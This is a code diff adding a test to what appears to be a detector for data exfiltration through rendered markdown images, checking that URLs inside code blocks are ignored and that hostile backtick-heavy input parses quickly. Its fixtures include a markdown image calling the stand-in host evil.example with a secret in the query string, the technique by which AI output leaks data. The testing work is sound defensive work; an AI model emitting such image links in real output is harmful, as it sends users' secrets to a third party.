@@ -45,6 +45,23 @@ test("URLs are found in every syntax, with their offsets and whether they load b
   assert.equal(found.find((u) => u.url.includes("k.example"))!.url, "https://k.example/wiki/Foo_(bar)");
 });
 
+test("code is shown, not rendered: URLs in fenced blocks (closed or not) and inline code are left out", () => {
+  const image = `![x](https://evil.example/p.png?d=${secret})`;
+  const fenced = `Example:\n\n\`\`\`markdown\nline one\nline two\n${image}\n\`\`\`\n\nAfter: ${image}`;
+  const found = findUrls(fenced);
+  assert.deepEqual(
+    found.map((u) => u.offset),
+    [fenced.lastIndexOf("https://evil")],
+  );
+  assert.deepEqual(findUrls(`~~~~\n${image}\n~~~\nstill code\n${image}`), []);
+  assert.deepEqual(findUrls(`Use \`\`${image}\`\` to embed it.`), []);
+  // Thousands of unclosed fences and backtick runs are read in one pass.
+  const hostile = "```\n~~~~\n`` ` ```` `\n".repeat(20_000) + image;
+  const started = performance.now();
+  findUrls(hostile);
+  assert.ok(performance.now() - started < 1_000, `${performance.now() - started} ms`);
+});
+
 test("a markdown image that carries data to another host is caught, allowed hosts or not", () => {
   const output = `Done! ![loading](https://evil.example/pixel.png?d=${secret})`;
   for (const [allowedHosts, score] of [
